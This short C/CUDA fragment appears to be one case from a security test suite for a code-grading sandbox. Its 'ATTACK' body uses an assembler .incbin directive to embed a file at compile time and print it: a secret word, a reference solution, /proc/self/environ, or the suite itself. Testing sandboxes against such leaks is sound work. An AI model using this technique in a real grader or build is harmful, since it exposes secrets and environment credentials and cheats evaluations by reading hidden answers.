// Row 10: the assembler puts a file into the program, which prints it: a secret, the solution, the environment of the
// compiler, or the suite.
// with: WORD SOLUTION ENVIRONMENT
#define WORD "@SECRET@/word"
#define SOLUTION "@KIT@/solutions/03_compressed/compressed.cu"
#define ENVIRONMENT "/proc/self/environ"
asm(".section .rodata\n.globl taken\ntaken: .incbin \"" WITH "\"\n.byte 0\n.text\n");
extern "C" const char taken[];
ATTACK {
  fprintf(stderr, "%.200s\n", taken);
  _exit(1);
}
